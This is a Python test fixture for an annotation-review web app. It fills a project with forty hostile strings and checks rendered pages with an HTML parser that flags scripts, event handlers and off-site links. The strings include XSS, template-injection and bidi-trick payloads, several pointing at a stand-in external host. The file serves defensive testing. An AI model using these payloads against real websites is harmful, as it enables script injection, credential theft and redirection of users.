"""Forty texts that want to be more than text, a project full of them, and who sees what became more."""

import json
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final

PASSWORD: Final = "correct horse battery"  # noqa: S105 - of tests
PAYLOADS: Final = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "<ScRiPt src=//198.51.100.7/pwned.js></sCrIpT>",
    "<script type=module>import('/static/pwned.js')</script>",
    "<img src=x onerror=window.pwned=3>",
    '"><img src=x onerror="window.pwned=4">',
    "'><img src=x onerror='window.pwned=5'>",
    '" onmouseover="window.pwned=6" x="',
    "' autofocus onfocus='window.pwned=7",
    "x onpointerenter=window.pwned=8 y=",
    "` onclick=`window.pwned=9",
    "<svg onload=window.pwned=10>",
    "<svg><script>window.pwned=11</script></svg>",
    "<svg><animate onbegin=window.pwned=12 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=13>",
    "</textarea><script>window.pwned=14</script>",
    "</title><script>window.pwned=15</script>",
    "</select></option><script>window.pwned=16</script>",
    "</template><svg onload=window.pwned=17>",
    "--><script>window.pwned=18</script><!--",
    "]]><script>window.pwned=19</script><![CDATA[",
    "<iframe srcdoc='<script>parent.pwned=20</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=21></iframe>",
    "<object data=data:text/html,<script>pwned=22</script>></object>",
    "<base href=//198.51.100.7/>",
    "<meta http-equiv=refresh content=0;url=//198.51.100.7/>",
    "<link rel=stylesheet href=//198.51.100.7/pwned.css>",
    "<style>@import '//198.51.100.7/pwned.css';</style>",
    "<form action=//198.51.100.7/><button autofocus>pwned</button></form>",
    "<div hx-get=/work hx-trigger=load hx-on:load='window.pwned=23'>",
    "<a href=javascript:window.pwned=24>pwned</a>",
    "javascript:window.pwned=25",
    "java\tscript:window.pwned=26//",
    "data:text/html,<script>window.pwned=27</script>",
    "[pwned](javascript:window.pwned=28) ![](x){onerror=window.pwned=28} https://198.51.100.7/pwned",
    "{{ 7919*7907 }}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
    "{% debug %}{% load pwned %}{{ person.user.password }}{# pwned",
    "pwned\u202e\u2066gpj.exe\u2069\u200b\ufeff\u0085",
    "pwned\x00<script\x00>window.pwned=29</script>\x0b\x1f",
    "<b>" + "pwned " * 40 + "\U0001f4a5" * 20,
)
MADE_OF_TEMPLATES: Final = str(7919 * 7907)
EVERY: Final = "\n".join(PAYLOADS)
_NAME: Final = 150


def shorts(length: int = _NAME) -> list[str]:
    """The texts, each as long as a short field holds."""
    return [one[:length] for one in PAYLOADS]


NEVER = {"iframe", "object", "embed", "base", "style", "math", "mglyph", "animate", "portal", "frame"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"}


class Looked(HTMLParser):
    """What of a page a browser would run, load or send elsewhere; and where its links go."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.faults, self.links, self.within, self.seen = [], set(), [], []

    def handle_starttag(self, tag, attrs):
        said = dict(attrs)
        self.within.append(tag)
        if tag in NEVER or "pwned" in tag or "http-equiv" in said or len(said) != len(attrs):
            self.faults.append((tag, attrs))
        if tag == "script" and not (said.get("src") or "").startswith("/static/"):
            self.faults.append((tag, attrs))
        for name, value in attrs:
            if name.startswith(("on", "hx-on")) or not re.fullmatch(r"[a-z][a-z0-9-]*", name):
                self.faults.append((tag, name))
            if name == "style" or "pwned" in name:
                self.faults.append((tag, name))
            if name in ADDRESSES and not re.match(r"/(?!/)|[?#]|$", value or ""):
                self.faults.append((tag, name, value))
        if tag == "a" and (address := (said.get("href") or "").partition("#")[0]).startswith("/"):
            self.links.add(address)

    def handle_data(self, data):
        if self.within and self.within[-1] == "script" and data.strip():
            self.faults.append(("script", data))

    def handle_endtag(self, tag):
        if self.within and self.within[-1] == tag:
            self.within.pop()


def protocol_source() -> str:
    """The rules of a review whose every word is one of them."""

    def quoted(text: str) -> str:
        return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f").replace("\x85", "\\u0085")

    checks = "\n".join(
        f'[[stages.checks]]\nid = "c{n}"\nwords = {quoted(one)}\nhelp = {quoted(one)}\n'
        f'example = {quoted(one)}\nneeded = false\nfield = "question"'
        for n, one in enumerate(PAYLOADS)
    )
    return (
        f"title = {quoted(EVERY[:300])}\nsource = {quoted(EVERY)}\ndeparts = {quoted(EVERY)}\nreturns = 1\n"
        f'[[stages]]\nrole = "reviewer"\nedits = ["validator_edit"]\n{checks}\n'
        f'[[stages.scores]]\nid = "s"\nwords = {quoted(EVERY)}\n'
    )


def words(name: str, text: str) -> dict[str, object]:
    """The content of an item that says a text in each of its fields."""
    return {
        "item_id": name,
        "media": [{"path": text.replace("\x00", "")}],
        "question": text,
        "choices": [text, f"{text} "],
        "answer": text,
        "rationale": text,
        "evidence": [{"kind": "referred", "start_s": 0.0, "end_s": 1.0, "note": text}],
        "tags": {text: text},
        "source": text,
    }


def fill(folder: Path, *, now: datetime) -> Any:
    """A project that holds them: its title and rules, names of people and items, what people wrote."""
    from vidence.studio import projects, times, training
    from vidence.studio.accounts import Profile, Terms, add_user, set_roles
    from vidence.studio.records.fields import NAME_LENGTH
    from vidence.studio.records.items import ItemRow, MediumRow
    from vidence.studio.rules.spans import Span
    from vidence.studio.workflow import Act, RecordedAct, act

    rules = folder / "hostile.toml"
    rules.write_text(protocol_source())
    project = projects.add_project("films", str(rules), title=EVERY[:300], media_root=str(folder))
    people = {}
    for n, (name, roles) in enumerate(
        (("Olga", ("operator",)), ("Ann", ("author",)), ("Rob", ("reviewer",)), ("Rex", ("researcher",)))
    ):
        people[name] = add_user(
            name, PASSWORD, roles=roles, project="films", profile=Profile(shown=shorts()[n * 4])
        )
        set_roles(people[name], project, roles, terms=Terms(domains=(shorts()[n], "law")), by="p001")
    for n, text in enumerate(shorts()):
        add_user(f"{n}{text}"[:NAME_LENGTH], PASSWORD, roles=("author",), project="films")
    training.accept(people["Ann"], training.add_guideline(project, EVERY, by="p001"))
    training.accept(people["Rob"], training.add_guideline(project, f"{EVERY}\n{EVERY}", by="p001"))
    training.accept(people["Ann"], training.newest(project))
    for text in shorts():
        trial = training.Trial(role="reviewer", words=text, options=(text, "no"), right="no", why=text)
        training.add_trial(project, trial)
    for n, text in enumerate(shorts()):
        MediumRow.objects.create(
            project=project, path=f"{n}{text}.mp4", sha256="0" * 64, kind="video", source_id=text,
            state="usable", url=text, title=text,
        )  # fmt: skip
    names = [f"{n:02} {one}" for n, one in enumerate(shorts())]
    projects.add_items(project, names, kinds=dict.fromkeys(names, "mcq"))
    ann, rob = people["Ann"], people["Rob"]
    for n, item in enumerate(ItemRow.objects.filter(project=project).order_by("item_id")):
        item.author, item.strata = ann, {"domain": "law"}
        item.save()
        if n == len(names) - 1:
            break  # one stays to be written
        text = EVERY if n == 0 else PAYLOADS[n]
        deeds = [Act(kind="submit", role="author", by=ann.pseudonym, content=words(item.item_id, text))]
        deeds.append(Act(kind="say", role="author", by=ann.pseudonym, message=text))
        deeds.append(Act(kind="claim", role="reviewer", by=rob.pseudonym))
        if n > 1:
            said = {"message": text, "checks": {"c0": "no"}, "scores": {"s": 3}}
            deeds.append(Act(kind="return", role="reviewer", by=rob.pseudonym, **said))
        for deed in deeds:
            done = act(item, deed)
            assert isinstance(done, RecordedAct), (text, deed.kind, done)
    for text in PAYLOADS[:5]:
        begin = now - timedelta(days=1)
        begin = begin.replace(hour=3, minute=0, second=0, microsecond=0, tzinfo=UTC)
        told = Span(kind="active", start=begin, end=begin + timedelta(minutes=5))
        times.file_correction(ann, project, told, reason=f"{text} {EVERY}")
    return project
